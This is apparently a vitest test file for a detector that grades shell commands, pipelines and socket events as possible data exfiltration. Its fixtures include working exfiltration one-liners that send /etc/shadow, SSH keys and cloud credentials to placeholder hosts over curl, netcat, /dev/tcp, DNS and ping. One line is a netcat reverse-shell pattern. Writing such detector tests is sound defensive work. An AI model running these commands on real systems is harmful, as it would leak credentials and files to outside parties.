import { describe, expect, test } from "vitest";
import type { Fact } from "../events/fact.ts";
import { possibleDataLossCommand } from "./possible-data-loss.command.ts";
import { possibleDataLossPipe } from "./possible-data-loss.pipe.ts";
import { possibleDataLossSocket } from "./possible-data-loss.socket.ts";
import { below, grade, process, ran, run, script } from "./testing/root-shell.ts";

describe("data that leaves by a command", () => {
  test.each([
    "curl -T /etc/shadow http://192.0.2.7/",
    "curl -F 'f=@/root/.ssh/id_rsa' https://files.example/up",
    "wget --post-file=report.tgz https://files.example/",
    "scp -r /root/.aws eve@192.0.2.7:/tmp",
    "tar cz /etc | nc 192.0.2.7 80",
    "nc 192.0.2.7 80 < /etc/passwd",
    "cat /etc/passwd > /dev/tcp/192.0.2.7/80",
    "exec 4<>/dev/tcp/192.0.2.7/80; cat /etc/group >&4",
    "for w in $(cat /etc/passwd); do dig $w.x.example.net; done",
    "xxd -p f | while read l; do ping -c1 -p $l 192.0.2.7; done",
    'finger "$(base64 f)@192.0.2.7"',
    'python3 -c \'import requests; requests.post("http://192.0.2.7", data=open("/etc/passwd"))\'',
    "python3 -m http.server 8000",
    "aws s3 cp /root/.kube/config s3://b/",
    'php -r \'$d=file_get_contents("/etc/group");file_get_contents("http://192.0.2.7/?q=".$d);\'',
    "ab -p /etc/passwd http://192.0.2.7/",
    "rclone copy /etc away:x --config r.conf",
    "rclone copy /var/log/app mega:x",
    "rclone move /srv/data away:x",
    "dd if=/dev/sda1 | ssh eve@192.0.2.7 'dd of=d'",
    "aws s3 sync /srv s3://b/ --no-sign-request",
    "restic -r rest:http://203.0.113.7:8000/ backup /home",
    "socat - TCP:192.0.2.7:80 < /etc/group",
    "tar cz /home/* | openssl des3 -k x | ssh eve@192.0.2.7 'cat > h'",
    "python3 -c 'import http.server as h; h.HTTPServer((\"\", 80), h.SimpleHTTPRequestHandler).serve_forever()'",
    "mail -s x eve@mail.example < /etc/shadow",
  ])("%s fires", (line) => {
    expect(grade(run(possibleDataLossCommand, [script(line)]))).toEqual(["medium"]);
  });

  test.each([
    "rsync -a /srv/data backup@nas.example:/b",
    "curl -T app.deb https://packages.example/upload/",
    "aws s3 sync ./dist s3://site",
    "rclone sync /srv/data away:x",
    "restic -r s3:s3.example.com/b backup /home",
    "rclone copy /srv/app/backups away:x",
    "curl -T build.tgz http://10.0.0.5/",
    "curl -F f=@minutes.pdf https://intranet.firm.example/up",
    "smbclient //fileserver/s -c 'put minutes.pdf'",
  ])("%s is dual use", (line) => {
    expect(grade(run(possibleDataLossCommand, [script(line)]))).toEqual(["low"]);
  });

  test("a nightly backup in the own network takes the secrets along, a stranger's does not", () => {
    const nightly = (to: string) =>
      grade(run(possibleDataLossCommand, [ran(["rsync", "-a", "/etc/", `${to}:/b/`], below("/usr/sbin/cron"))]));
    expect(nightly("backup@10.0.0.9")).toEqual(["low"]);
    expect(nightly("backup@192.0.2.7")).toEqual(["medium"]);
  });

  test.each([
    "curl -d '{\"a\":1}' https://api.example/",
    "curl -d @body.json https://api.example/",
    "curl -F f=@/etc/passwd http://localhost:8080/",
    "scp eve@192.0.2.7:/etc/passwd .",
    "ab -n 100 http://192.0.2.7/",
    "rclone copy away:x /srv --config r.conf",
    "socat - TCP:192.0.2.7:80 < motd",
    "for h in a b; do host $h.x.example.net; done",
    "ruby -run -e httpd --version",
    "python3 -m http.server --help",
    "mkfifo q; nc 192.0.2.7 80 < q | sh > q",
    "nc -zv 192.0.2.7 80",
    "dig +short x.example.net",
    "exec 3<>/dev/tcp/127.0.0.1/80; cat req >&3; head -1 <&3",
    "for h in a b; do dig $h.example.net; done",
    "echo | openssl s_client -connect x.example:443",
    "aws s3 cp s3://b/x .",
    'curl -H "Authorization: Bearer $(cat /run/secrets/token)" https://api.example/',
    "grep x /etc/passwd",
  ])("%s raises nothing", (line) => {
    expect(run(possibleDataLossCommand, [script(line)])).toEqual([]);
  });

  test("an allowed destination is quiet", () => {
    const upload = script("aws s3 cp /etc/shadow s3://fleet-logs/x");
    expect(run(possibleDataLossCommand, [upload], { allowedDestinations: ["s3://fleet-logs/"] })).toEqual([]);
    const scp = script("scp /etc/shadow eve@nas.example:/b");
    expect(run(possibleDataLossCommand, [scp], { allowedDestinations: ["nas.example"] })).toEqual([]);
  });
});

describe("a pipeline typed at a prompt", () => {
  const cat = (at: number, ppid = 60) => ran(["cat", "/etc/passwd"], { pid: 71, ppid }, at);
  const nc = (at: number) => ran(["telnet", "192.0.2.7", "80"], { pid: 72 }, at);

  test("is known by its two halves, in either order, within two seconds, under one shell", () => {
    expect(run(possibleDataLossPipe, [cat(1000), nc(3000)])).toHaveLength(1);
    expect(run(possibleDataLossPipe, [nc(1000), cat(1001)])).toHaveLength(1);
    expect(run(possibleDataLossPipe, [cat(1000), nc(3001)])).toEqual([]);
    expect(run(possibleDataLossPipe, [cat(1000, 61), nc(1001)])).toEqual([]);
    expect(run(possibleDataLossPipe, [ran(["cat", "/proc/uptime"]), nc(1001)])).toEqual([]);
  });

  test("with a client whose arguments carry it, unless it is an API call beside a settings file", () => {
    const beside = (file: string, client: string) =>
      run(possibleDataLossPipe, [ran(["cat", file], { pid: 71 }), ran(client.split(" "), { pid: 72 }, 1500)]);
    expect(beside("/etc/passwd", "whois -h 192.0.2.7 -p 43 x")).toHaveLength(1);
    expect(beside("/etc/passwd", "curl -d x http://api.example/")).toHaveLength(1);
    expect(beside("/srv/app/.env", "curl -d x http://api.example/")).toEqual([]);
    expect(beside("/etc/passwd", "dig root.x.example.net")).toHaveLength(1);
    expect(beside("/etc/ssl/x.conf", "dig root.x.example.net")).toEqual([]);
    expect(beside("/etc/passwd", "curl http://api.example/")).toEqual([]);
  });

  test("a client alone counts towards a public address, not beside a FIFO or a shell", () => {
    const client = (line: string) => ran(line.split(" "), { pid: 72 }, 1500);
    const tls = client("openssl s_client -quiet -connect 203.0.113.7:443");
    expect(run(possibleDataLossPipe, [client("nc 203.0.113.7 80")])).toHaveLength(1);
    expect(run(possibleDataLossPipe, [tls])).toHaveLength(1);
    expect(run(possibleDataLossPipe, [client("openssl s_client -connect 203.0.113.7:443")])).toEqual([]);
    expect(run(possibleDataLossPipe, [client("nc -vz 203.0.113.7 80")])).toEqual([]);
    expect(run(possibleDataLossPipe, [client("nc 10.0.0.7 80")])).toEqual([]);
    expect(run(possibleDataLossPipe, [ran(["mkfifo", "/tmp/q"]), tls])).toEqual([]);
    expect(run(possibleDataLossPipe, [ran(["sh", "-i"]), tls])).toEqual([]);
  });

  test("into a shell's own socket is known by the connection", () => {
    const opened = (exe: string): Fact => ({
      kind: "socket.connected",
      at: 1000,
      destination: { ip: "192.0.2.7", port: 80 },
      process: process(["-bash"], { pid: 60, exe }),
    });
    const pack = (at: number) => ran(["base64", "f"], {}, at);
    expect(run(possibleDataLossSocket, [opened("/usr/bin/bash"), pack(3000)])).toHaveLength(1);
    expect(run(possibleDataLossSocket, [opened("/usr/bin/bash"), pack(3001)])).toEqual([]);
    expect(run(possibleDataLossSocket, [opened("/usr/bin/curl"), pack(1001)])).toEqual([]);
  });
});
